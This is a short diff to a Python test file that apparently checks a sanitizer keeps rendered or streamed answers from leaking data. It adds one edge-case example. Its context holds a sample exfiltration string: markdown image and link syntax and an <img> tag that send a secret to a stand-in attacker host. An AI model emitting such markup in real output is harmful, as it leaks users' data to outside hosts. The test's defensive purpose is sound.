@@ -138,6 +138,7 @@ def test_nothing_leaves_when_a_browser_shows_an_answer(text: str, safe: str) -> 
     "See ![a b](https://e.vil/?d=s3cret) and [a b](https://e.vil/?d=s3cret) <img src=https://e.vil/?d=s3cret>",
     2,
 )
+@example("0http://", 5)
 def test_a_text_that_is_still_being_written_is_as_safe(text: str, size: int) -> None:
     written: list[str] = []
     legible = Legible(written.append)
